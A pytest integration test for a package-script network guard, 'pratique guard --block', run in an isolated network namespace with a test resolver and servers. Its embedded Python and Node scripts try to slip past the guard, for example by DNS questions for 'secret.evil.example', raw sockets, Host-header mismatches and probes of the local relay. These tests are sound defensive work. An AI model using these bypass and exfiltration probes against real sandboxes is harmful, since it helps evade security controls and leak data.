"""`pratique guard --block` with `hosts`: packages' scripts reach hosts by name, whatever address they ask for, and no other.

Everything runs in a network of its own with a resolver and servers of the test; what those were sent is the proof.
"""

from __future__ import annotations

import datetime
import http.server
import ipaddress
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from pratique.adapters.supervisor import unusable
from pratique.adapters.supervisor.dns import question
from tests.integration.own_network import enter, in_a_thread
from tests.standins.real_clients import need

REASON = unusable()
pytestmark = pytest.mark.skipif(bool(REASON), reason=f"no filter with a listener can be set here: {REASON}")
RESOLVER, GOOD, BAD = "192.0.2.53", "192.0.2.10", "198.51.100.66"
STEP = {"npm_package_name": "anchor", "npm_package_version": "1.0.0", "npm_lifecycle_event": "postinstall"}
POLICY = "[network]\nhosts = ['registry.example', '*.cdn.example']\n"


class Network:
    """What the servers of a test's network were sent: requests by server, and names that the resolver was asked for."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, str]] = []
        self.names: set[str] = set()
        self.strange: list[str] = []


@contextmanager
def _network(folder: Path) -> Iterator[Network]:
    """The network of the calling thread, with its servers. Skips where it cannot be had."""
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip("a resolver of its own needs root and unshare")
    reason = enter(RESOLVER, GOOD, BAD)
    if reason:
        pytest.skip(f"no network of its own can be had here: {reason}")
    network = Network()
    key, certificate = _authority(folder)
    opened: list[Any] = []
    for address in (GOOD, BAD):

        class Answers(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            place = address

            def do_GET(self) -> None:
                network.requests.append((self.place, self.headers.get("Host", ""), self.path))
                body = self.place.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *arguments: object) -> None:
                return

        for port in (80, 443):
            server = http.server.ThreadingHTTPServer((address, port), Answers)
            if port == 443:
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                context.load_cert_chain(certificate, key)
                server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
            threading.Thread(target=server.serve_forever, daemon=True).start()
            opened.append(server)
        for number in (53, 443):
            datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            datagrams.bind((address, number))
            threading.Thread(target=_note, args=(datagrams, network.strange, address), daemon=True).start()
            opened.append(datagrams)
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    resolver.bind((RESOLVER, 53))
    threading.Thread(target=_resolve, args=(resolver, network), daemon=True).start()
    opened.append(resolver)
    try:
        yield network
    finally:
        for one in opened:
            if isinstance(one, http.server.ThreadingHTTPServer):
                one.shutdown()
                one.server_close()
            else:
                one.close()


def _note(datagrams: socket.socket, strange: list[str], address: str) -> None:
    while True:
        try:
            strange.append(f"{len(datagrams.recv(2048))} bytes to {address}")
        except OSError:
            return


def _resolve(resolver: socket.socket, network: Network) -> None:
    """Answer for the names of the test: the permitted ones lead to the good server, others to the bad one."""
    while True:
        try:
            query, peer = resolver.recvfrom(2048)
        except OSError:
            return
        name = question(query)
        network.names.add(name)
        end = 12 + len(name) + 2
        kind = query[end : end + 2]
        good = name == "registry.example" or name.endswith(".cdn.example")
        address = socket.inet_aton(GOOD if good else BAD)
        answer = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + address if kind == b"\0\1" else b""
        head = query[:2] + b"\x81\x80\0\1" + (b"\0\1" if answer else b"\0\0") + b"\0\0\0\0"
        resolver.sendto(head + query[12 : end + 4] + answer, peer)


def _authority(folder: Path) -> tuple[Path, Path]:
    """A key, and a certificate that both servers show."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "inert authority")])
    now = datetime.datetime.now(datetime.UTC)
    names = [x509.DNSName(one) for one in ("registry.example", "evil.example")]
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([*names, x509.IPAddress(ipaddress.ip_address(BAD))]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    key_file, file = folder / "key.pem", folder / "authority.pem"
    form = serialization.Encoding.PEM
    key_file.write_bytes(key.private_bytes(form, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    file.write_bytes(certificate.public_bytes(form))
    return key_file, file


class Guarded:
    """What a guarded command printed, and its events."""

    def __init__(self, done: subprocess.CompletedProcess[str], events: Path) -> None:
        self.code, self.out, self.summary = done.returncode, done.stdout, done.stderr
        self.events: list[dict[str, Any]] = [json.loads(line) for line in events.read_text("utf-8").splitlines()[1:]]

    def denied(self) -> set[tuple[str, str]]:
        """Kind and host or address of what was refused."""
        return {
            (one["kind"], one.get("host") or one["address"]) for one in self.events if one.get("outcome") == "denied"
        }


def _guarded(folder: Path, *words: str, options: tuple[str, ...] = (), **more: str) -> Guarded:
    """Run a command as a package's script under guard, with the test's resolver."""
    (folder / "policy.toml").write_text(POLICY, "utf-8")
    (folder / "resolv.conf").write_text(f"nameserver {RESOLVER}\noptions timeout:1 attempts:1\n", "utf-8")
    (folder / "home").mkdir(exist_ok=True)
    work = folder / "work"
    work.mkdir(exist_ok=True)
    given = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "PRATIQUE_ISOLATED": "no"}
    given |= {"HOME": str(folder / "home"), "NODE_EXTRA_CA_CERTS": str(folder / "authority.pem")} | STEP | more
    events = folder / "events.ndjson"
    guard = [sys.executable, "-m", "pratique", "guard", "--block", "--policy", str(folder / "policy.toml")]
    guard += ["--linger", "0.2", "--events", str(events), *options, "--", *words]
    bind = f'mount --bind {folder}/resolv.conf /etc/resolv.conf && exec "$@"'
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", bind, "sh", *guard],
        cwd=work, env=given, capture_output=True, text=True, timeout=90, check=False,
    )  # fmt: skip
    assert events.exists(), done.stderr
    return Guarded(done, events)


TRIES = r"""
import json, os, selectors, socket, ssl, struct, sys, time, urllib.request
GOOD, BAD, RESOLVER, AUTHORITY = "192.0.2.10", "198.51.100.66", "192.0.2.53", sys.argv[1]
found = {}

def attempt(name):
    def run(act):
        try:
            found[name] = act()
        except OSError as error:
            found[name] = type(error).__name__ if not error.errno or error.errno < 0 else os.strerror(error.errno)
    return run

def get(connection, host, path="/", trickle=False):
    request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    for part in ([request[i:i+1] for i in range(len(request))] if trickle else [request]):
        connection.sendall(part)
        time.sleep(0.002 if trickle else 0)
    answer = b""
    while not answer.endswith((GOOD.encode(), BAD.encode())):
        part = connection.recv(4096)
        if not part:
            return "ended"
        answer += part
    return answer.rpartition(b"\r\n")[2].decode()

def tcp(address, port=80, family=socket.AF_INET):
    one = socket.socket(family)
    one.settimeout(10)
    one.connect((address, port))
    return one

def tls(address, name):
    context = ssl.create_default_context(cafile=AUTHORITY)
    return context.wrap_socket(tcp(address, 443), server_hostname=name)

def query(name):
    return b"\1\2\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(one)]) + one.encode() for one in name.split(".")) + b"\0\0\1\0\1"

def datagrams(address=None, port=53):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(5)
    if address:
        one.connect((address, port))
    return one

@attempt("by name, plain")
def _(): return urllib.request.urlopen("http://registry.example/plain", timeout=10).read().decode()
@attempt("by name, secret")
def _(): return urllib.request.urlopen("https://registry.example/tls", timeout=10, context=ssl.create_default_context(cafile=AUTHORITY)).read().decode()
@attempt("below a suffix")
def _(): return urllib.request.urlopen("http://a.b.cdn.example/", timeout=10).read().decode()
@attempt("without waiting")
def _():
    one = socket.socket(); one.setblocking(False)
    begun = one.connect_ex((GOOD, 80))
    waits = selectors.DefaultSelector(); waits.register(one, selectors.EVENT_WRITE)
    assert waits.select(5), "never writable"
    assert one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
    one.setblocking(True); one.settimeout(10)
    return get(one, "registry.example", "/waits")
@attempt("byte by byte")
def _(): return get(tcp(GOOD), "registry.example", "/trickle", trickle=True)
@attempt("by IPv6 for IPv4")
def _(): return get(tcp("::ffff:" + GOOD, 80, socket.AF_INET6), "registry.example", "/six")
@attempt("another address, permitted name")
def _(): return get(tcp(BAD), "registry.example", "/lied")
@attempt("another address, permitted name, TLS")
def _(): return get(tls(BAD, "registry.example"), "registry.example", "/lied-tls")
@attempt("second request")
def _():
    one = tcp(BAD)
    return get(one, "registry.example", "/first"), get(one, "evil.example", "/second")
@attempt("another name")
def _(): return urllib.request.urlopen("http://evil.example/", timeout=10).read().decode()
@attempt("another name to a permitted address")
def _(): return get(tcp(GOOD), "evil.example")
@attempt("another name by TLS")
def _(): return get(tls(BAD, "evil.example"), "evil.example")
@attempt("an address by TLS")
def _(): return get(tls(BAD, BAD), BAD)
@attempt("no name")
def _():
    one = tcp(BAD); one.sendall(b"hello\r\n"); return one.recv(10).decode() or "ended"
@attempt("resolver by TCP")
def _(): tcp(RESOLVER, 53); return "connected"
@attempt("permitted question")
def _():
    one = datagrams(); one.sendto(query("registry.example"), (RESOLVER, 53)); return one.recvfrom(512)[1][0]
@attempt("permitted question, connected")
def _():
    one = datagrams(RESOLVER); one.send(query("registry.example")); return one.recvfrom(512)[1][0]
@attempt("another question")
def _(): return datagrams().sendto(query("secret.evil.example"), (RESOLVER, 53))
@attempt("another question, connected")
def _(): return datagrams(RESOLVER).send(query("secret.evil.example"))
@attempt("another question by sendmsg")
def _(): return datagrams(RESOLVER).sendmsg([query("secret.evil.example")])
@attempt("another question by write")
def _():
    one = datagrams(RESOLVER); return os.write(one.fileno(), query("secret.evil.example"))
@attempt("two questions")
def _(): return datagrams().sendto(b"\1\2\1\0\0\2" + query("registry.example")[6:] + query("evil.example")[12:], (RESOLVER, 53))
@attempt("another resolver")
def _(): return datagrams().sendto(query("registry.example"), (BAD, 53))
@attempt("another resolver, connected")
def _(): return datagrams(BAD).send(query("registry.example"))
@attempt("datagrams")
def _(): return datagrams().sendto(b"x", (BAD, 443))
@attempt("datagrams, connected")
def _(): return datagrams(BAD, 443).send(b"x")
@attempt("datagrams by write")
def _():
    one = datagrams(BAD, 443); return os.write(one.fileno(), b"x")
@attempt("raw")
def _(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); return "made"
@attempt("packets")
def _(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW); return "made"
@attempt("the relay itself")
def _():
    listens = [row.split()[1] for row in open("/proc/net/tcp").readlines()[1:] if row.split()[3] == "0A"]
    ports = [int(one.partition(":")[2], 16) for one in listens if one.startswith("0100007F")]
    answers = []
    for port in ports:
        try:
            one = tcp("127.0.0.1", port); one.sendall(b"GET / HTTP/1.1\r\nHost: registry.example\r\n\r\n"); answers.append("reached")
        except OSError as error:
            answers.append(os.strerror(error.errno))
    return sorted(set(answers)) if answers else "none found"
print(json.dumps(found))
"""
REFUSED = "Permission denied"
NOWHERE = "Destination address required"
RESET = "Connection reset by peer"


def test_hosts_are_reached_by_name_and_nothing_else_is(tmp_path: Path) -> None:
    def act() -> None:
        with _network(tmp_path) as network:
            (tmp_path / "tries.py").write_text(TRIES, "utf-8")
            ran = _guarded(tmp_path, sys.executable, str(tmp_path / "tries.py"), str(tmp_path / "authority.pem"))
        assert ran.code == 0, ran.summary
        found = json.loads(ran.out)
        assert found == {
            "by name, plain": GOOD,
            "by name, secret": GOOD,
            "below a suffix": GOOD,
            "without waiting": GOOD,
            "byte by byte": GOOD,
            "by IPv6 for IPv4": GOOD,
            "another address, permitted name": GOOD,
            "another address, permitted name, TLS": GOOD,
            "second request": [GOOD, GOOD],
            "another name": found["another name"],
            "another name to a permitted address": RESET,
            "another name by TLS": RESET,
            "an address by TLS": RESET,
            "no name": RESET,
            "resolver by TCP": REFUSED,
            "permitted question": RESOLVER,
            "permitted question, connected": RESOLVER,
            "another question": REFUSED,
            "another question, connected": REFUSED,
            "another question by sendmsg": REFUSED,
            "another question by write": NOWHERE,
            "two questions": REFUSED,
            "another resolver": REFUSED,
            "another resolver, connected": REFUSED,
            "datagrams": REFUSED,
            "datagrams, connected": REFUSED,
            "datagrams by write": NOWHERE,
            "raw": "Operation not permitted",
            "packets": "Address family not supported by protocol",
            "the relay itself": [REFUSED],
        }
        assert found["another name"] in ("URLError", "gaierror")
        assert {place for place, _, _ in network.requests} == {GOOD}, "nothing came to the other server"
        assert network.strange == [], "no datagram came to the other server"
        assert network.names <= {"registry.example", "a.b.cdn.example"}, "nothing else was asked for"
        assert {("network.connect", "evil.example"), ("network.name", "secret.evil.example")} <= ran.denied()
        named = {
            (one["host"], one["protocol"])
            for one in ran.events
            if one["kind"] == "network.name" and one.get("outcome") == "done"
        }
        assert {("registry.example", "tls"), ("registry.example", "http")} <= named
        assert "network.connect, network.name" in ran.summary.partition("for good: ")[2]

    in_a_thread(act)


NODE = """\
const dns = require("dns").promises, https = require("https");
const get = (host) => new Promise((done) => https.get({ host, path: "/node" }, (answer) => {
  let body = ""; answer.on("data", (part) => body += part); answer.on("end", () => done(body));
}).on("error", (error) => done(error.code)));
(async () => {
  console.log(JSON.stringify([
    await get("registry.example"), await get("evil.example"),
    await fetch("https://registry.example/fetch").then((answer) => answer.text(), (error) => String(error.cause)),
    await dns.resolve4("registry.example").catch((error) => error.code),
    await dns.resolve4("secret.evil.example").catch((error) => error.code),
  ]));
})();
"""


def test_node_goes_on_with_what_is_permitted(tmp_path: Path) -> None:
    node = need("npm-11").command[0]

    def act() -> None:
        with _network(tmp_path) as network:
            (tmp_path / "tries.js").write_text(NODE, "utf-8")
            ran = _guarded(tmp_path, node, str(tmp_path / "tries.js"))
        assert ran.code == 0, ran.summary
        got, refused, fetched, resolved, unresolved = json.loads(ran.out)
        assert (got, fetched, resolved) == (GOOD, GOOD, [GOOD])
        assert (refused, unresolved) != (BAD, [BAD])
        assert isinstance(refused, str)
        assert isinstance(unresolved, str)
        assert {place for place, _, _ in network.requests} == {GOOD}
        assert network.names <= {"registry.example"}

    in_a_thread(act)


def test_the_users_own_command_is_held_to_nothing(tmp_path: Path) -> None:
    def act() -> None:
        with _network(tmp_path) as network:
            fetch = "import urllib.request; print(urllib.request.urlopen('http://evil.example/').read().decode())"
            own = dict.fromkeys(STEP, "")
            ran = _guarded(tmp_path, sys.executable, "-c", fetch, **own)
        assert (ran.code, ran.out) == (0, BAD + "\n"), ran.summary
        assert [place for place, _, _ in network.requests] == [BAD]

    in_a_thread(act)


@pytest.mark.parametrize("host", ["*", "http://registry.example", "registry.example:443", "192.0.2.1", "a..b"])
def test_what_is_no_host_stops_before_the_command(tmp_path: Path, host: str) -> None:
    (tmp_path / "policy.toml").write_text(f"[network]\nhosts = ['{host}']\n", "utf-8")
    given = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "PRATIQUE_ISOLATED": "no"}
    words = [sys.executable, "-m", "pratique", "guard", "--block", "--policy", "policy.toml", "--", "touch", "begun"]
    done = subprocess.run(words, cwd=tmp_path, env=given, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2
    assert f"network.hosts: {host!r} is no name of a host" in done.stderr
    assert not (tmp_path / "begun").exists()
